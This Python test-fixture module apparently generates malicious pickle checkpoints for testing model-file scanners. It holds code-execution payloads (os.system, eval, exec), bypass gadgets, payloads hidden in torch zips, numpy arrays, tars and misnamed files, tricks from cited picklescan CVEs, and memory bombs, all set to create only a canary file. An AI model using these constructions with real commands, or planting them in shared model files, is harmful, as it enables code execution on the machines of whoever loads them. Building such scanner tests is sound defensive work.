"""Checkpoints whose pickles would run code or exhaust memory when loaded: names, bytes, and whether `pickle.loads` runs them.

The shapes are those of published advisories on scanners (picklescan CVE-2025-1716, -1889, -1944, -1945, -10155, -10156, -10157;
"nullifAI"; fickling's list of bypassed gadgets) and of the pickle machine itself. What they run only creates the file CANARY.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

STOP = b"."


@dataclass(frozen=True)
class Case:
    """`files`: path to content; `raw`: a single pickle that `pickle.loads` would run to the canary."""

    name: str
    files: dict[str, bytes]
    raw: bytes | None = None


def cases(canary: Path) -> list[Case]:
    """Every case. `canary`: the file that comes into being if one is executed."""
    return [*_calls(canary), *_gadgets(canary), *_machine(canary), *_containers(canary), *_bombs()]


def call(module: str, name: str, *arguments: object, protocol: int = 2) -> bytes:
    """A pickle that calls `module.name(*arguments)`."""
    body = pickle.dumps(arguments, protocol=2)[2:-1]
    if protocol >= 4:
        head = b"\x80\x04" + b"".join(b"\x8c" + bytes([len(part)]) + part.encode() for part in (module, name)) + b"\x93"
    else:
        head = (b"\x80\x02" if protocol >= 2 else b"") + f"c{module}\n{name}\n".encode()
    return head + body + b"R" + STOP


def _touch(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _single(name: str, data: bytes, *, runs: bool = True, path: str = "model.bin") -> Case:
    return Case(name, {path: data}, data if runs else None)


def _calls(canary: Path) -> Iterator[Case]:
    class Runs:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            import os

            return os.system, (f"touch {canary}",)

    for protocol in range(6):
        yield _single(f"os.system, protocol {protocol}", pickle.dumps(Runs(), protocol))
    python = _touch(canary)
    yield _single("eval", call("builtins", "eval", python))
    yield _single("eval by its old name", call("__builtin__", "eval", python))
    yield _single("exec", call("builtins", "exec", python))
    yield _single("protocol 4 names on the stack", call("builtins", "exec", python, protocol=4))
    yield _single("a file without an ending", call("os", "system", f"touch {canary}"), path="step-1000")
    yield _single("a file that is called a text", call("os", "system", f"touch {canary}"), path="notes.txt")
    yield _single("hidden among JSON", call("os", "system", f"touch {canary}"), path="config.json")


def _gadgets(canary: Path) -> Iterator[Case]:
    python, shell = _touch(canary), f"touch {canary}"
    touch = ["touch", str(canary)]
    live = {
        "subprocess.getoutput": (shell,), "subprocess.call": (touch,), "pty.spawn": (touch,), "timeit.timeit": ("0", python),
        "cProfile.run": (python,), "trace.Trace": (), "pdb.run": (), "code.InteractiveInterpreter": (),
        "runpy.run_path": (str(canary),), "pip._internal.main": (["--version"],), "operator.attrgetter": ("system",),
        "importlib.import_module": ("antigravity_is_no_module",), "functools.partial": (), "builtins.getattr": ("x", "upper"),
        "builtins.__import__": ("os",), "types.FunctionType": (), "marshal.loads": (b"N",), "ctypes.CDLL": ("libc.so.6",),
        "webbrowser.open": ("about:blank",), "shutil.rmtree": (str(canary) + ".none",), "pydoc.pipepager": ("", shell),
        "torch.storage._load_from_bytes": (b"",), "torch.hub.load": (), "torch.load": (), "numpy.load": (),
        "numpy.testing._private.utils.runstring": (python, {}), "asyncio.subprocess.os.system": (shell,),
        "torch.jit.unsupported_tensor_ops.execWrapper": (python, {}, {}), "logging.config.fileConfig": (),
        "transformers.AutoModel.from_pretrained": (), "idlelib.run.Executive": (), "_pickle.loads": (b"N.",),
    }  # fmt: skip
    for dotted, arguments in live.items():
        module, _, name = dotted.rpartition(".")
        yield _single(dotted, call(module, name, *arguments), runs=False)
    yield _single("subprocess.getoutput runs", call("subprocess", "getoutput", shell))
    yield _single("profile.run runs", call("profile", "run", python))


def _machine(canary: Path) -> Iterator[Case]:
    shell = f"touch {canary}".encode()
    text = b"X" + struct.pack("<I", len(shell)) + shell
    run = b"cos\nsystem\n"
    yield _single("INST", b"(" + text + b"ios\nsystem\n.")
    yield _single("OBJ", b"(" + run + text + b"o.")
    yield _single(
        "names from the memo",
        b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94000h\x00h\x01\x93".replace(b"000", b"00") + text + b"\x85R.",
    )
    yield _single("names in unicode escapes", b"\x80\x04Vo\\u0073\nVsys\\u0074em\n\x93" + text + b"\x85R.")
    yield _single("names in string escapes", b"\x80\x04S'o\\x73'\nS'sy\\x73tem'\n\x93" + text + b"\x85R.")
    yield _single(
        "dotted name",
        b"\x80\x04\x8c\x0aimportlib.\x8c\x00".replace(b"\x0aimportlib.\x8c\x00", b"\x06shutil\x8c\x09os.system")
        + b"\x93"
        + text
        + b"\x85R.",
    )
    yield _single("broken after the call", run + text + b"\x85R" + b"\xff\xff")
    yield _single("cut after the call", run + text + b"\x85R")
    yield _single("after a harmless pickle", pickle.dumps({"a": 1}) + run + text + b"\x85R.", runs=False)
    yield _single("an entry of copyreg's registry", b"\x80\x02\x82\x01.", runs=False)
    yield _single(
        "a name that is computed",
        b"\x80\x04" + b"ccollections\nOrderedDict\n)R\x8c\x06system\x93" + text + b"\x85R.",
        runs=False,
    )
    yield _single(
        "attributes of a class", b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n}X\x01\x00\x00\x00aK\x01sb.", runs=False
    )
    yield _single("NEWOBJ", b"\x80\x02csubprocess\nPopen\n]" + text + b"a\x85\x81.", runs=False)
    yield _single("NEWOBJ_EX", b"\x80\x04csubprocess\nPopen\n)}\x92.", runs=False)
    yield _single("calling what a call gives", b"\x80\x02ccollections\nOrderedDict\n)R)R.", runs=False)
    yield _single("import only", b"\x80\x02cantigravity\nfly\n.", runs=False)
    yield _single("protocol 5 with buffers", b"\x80\x05\x97\x98" + b"0" + run + text + b"\x85R.", runs=False)
    yield _single("a subclass's module", call("asyncio.base_subprocess", "BaseSubprocessTransport"), runs=False)


def _zip(entries: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _containers(canary: Path) -> Iterator[Case]:
    evil = call("os", "system", f"touch {canary}")
    torch = {"archive/data.pkl": evil, "archive/version": b"3\n", "archive/data/0": bytes(8)}
    whole = _zip(torch)
    yield Case("torch zip", {"model.pt": whole})
    yield Case("torch zip, packed", {"model.pt": _zip(torch, zipfile.ZIP_DEFLATED)})
    yield Case(
        "another entry of a torch zip (CVE-2025-1889)",
        {"model.pt": _zip(torch | {"archive/data.pkl": b"N.", "archive/x": evil})},
    )
    yield Case("wrong checksum (CVE-2025-10156)", {"model.pt": _flipped(whole, zlib.crc32(evil), b"\0\0\0\1")})
    yield Case(
        "flag bits (CVE-2025-1945)",
        {"model.pt": whole.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00")},
    )
    yield Case(
        "two names of one entry (CVE-2025-1944)",
        {"model.pt": whole.replace(b"archive/data.pkl", b"archive/dxta.pkl", 1)},
    )
    yield Case("zip in a zip", {"model.pt": _zip({"archive/data.pkl": b"N.", "archive/more": whole})})
    deep = whole
    for _ in range(8):
        deep = _zip({"archive/data.pkl": deep})
    yield Case("zips within zips", {"model.pt": deep})
    yield Case("zip after a pickle", {"model.pt": evil + whole})
    yield Case("older torch stream", {"model.pt": _old(evil)})
    yield Case("gzip", {"model.pkl": b"\x1f\x8b\x08" + evil})
    yield Case("7z", {"model.pkl": b"7z\xbc\xaf\x27\x1c" + evil})
    yield Case("numpy object array", {"x.npy": _array(evil)})
    yield Case("numpy archive of objects", {"x.npz": _zip({"x.npy": _array(evil)})})
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:") as archive:
        for name, data in (("model_config.yaml", b"a: 1\n"), ("model_weights.ckpt", whole)):
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    yield Case("NeMo's tar", {"model.nemo": buffer.getvalue()})
    yield Case("the oldest tar", {"step-1000": _old_tar(evil)})
    yield Case("after a harmless pickle in a file without an ending", {"step-1000": b"N." + evil})
    yield Case("DCP metadata", {".metadata": evil, "__0_0.distcp": b"PK\x03\x04"})
    header = json.dumps({"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}).encode()
    tensors = struct.pack("<Q", len(header)) + header + bytes(4)
    yield Case("beside whole tensors", {"model.safetensors": tensors, "optimizer.bin": evil})
    yield Case(
        "training arguments",
        {"model.safetensors": tensors, "config.json": b'{"model_type": "x"}', "training_args.bin": whole},
    )


def _flipped(data: bytes, checksum: int, other: bytes) -> bytes:
    return data.replace(struct.pack("<I", checksum), other)


def _array(evil: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + evil


def _old_tar(evil: bytes) -> bytes:
    head = bytearray(512)
    head[:6], head[100:108], head[124:136] = b"pickle", b"0000644\0", b"%011o\0" % len(evil)
    head[148:156] = b" " * 8
    head[148:155] = b"%06o\0" % sum(head)
    return bytes(head) + evil.ljust(512, b"\0") + bytes(1024)


def _old(evil: bytes) -> bytes:
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19\x2e"
    return magic + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + evil + pickle.dumps([], 2)


def _bombs() -> Iterator[Case]:
    laughs = (
        b"\x80\x02"
        + b"]q\x00"
        + b"".join(b"(" + b"h" + bytes([n]) + (b"h" + bytes([n])) * 9 + b"tq" + bytes([n + 1]) for n in range(60))
        + STOP
    )
    bombs = {
        "tuples of tuples": laughs.replace(STOP, b"0cos\ngetpid\n)R."),
        "memo index of 4 GiB": b"\x80\x02Nr\xff\xff\xff\xff0cos\ngetpid\n)R.",
        "text of 2^63 bytes": b"\x80\x04\x8d" + struct.pack("<Q", 2**63) + b"abc",
        "bytes of 4 GiB": b"\x80\x03B\xff\xff\xff\xffabc",
        "frame of 2^64 bytes": b"\x80\x04\x95" + b"\xff" * 8 + b"cos\ngetpid\n)R.",
        "long of 2 GiB": b"\x80\x02\x8b\xff\xff\xff\x7fabc",
        "a million marks": b"\x80\x02" + b"(" * 1_000_000 + b"cos\ngetpid\n)R.",
        "a million copies": b"\x80\x02N" + b"2" * 3_000_000 + b"cos\ngetpid\n)R.",
        "a line without an end": b"cos" + b"x" * 4_000_000,
        "a number of a million digits": b"I" + b"9" * 1_000_000 + b"\ncos\ngetpid\n)R.",
        "lists in lists": b"\x80\x02" + b"]" * 500_000 + b"a" * 499_999 + b"0cos\ngetpid\n)R.",
    }
    for name, data in bombs.items():
        yield Case(name, {"model.bin": data})
    packed = _zip({"archive/data.pkl": b"\x80\x02" + b"N0" * 3_000_000 + STOP}, zipfile.ZIP_DEFLATED)
    yield Case("6 MB of opcodes in a packed entry", {"model.pt": packed})
    yield Case(
        "a hundred such entries",
        {
            "model.pt": _zip(
                {f"archive/{n}.pkl": b"\x80\x02" + b"N0" * 300_000 + STOP for n in range(100)}, zipfile.ZIP_DEFLATED
            )
        },
    )
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 65535, 65535, 2**32 - 2, 30, 0)
    yield Case("zip directory of 4 GiB", {"model.pt": b"PK\x03\x04" + bytes(60) + end})
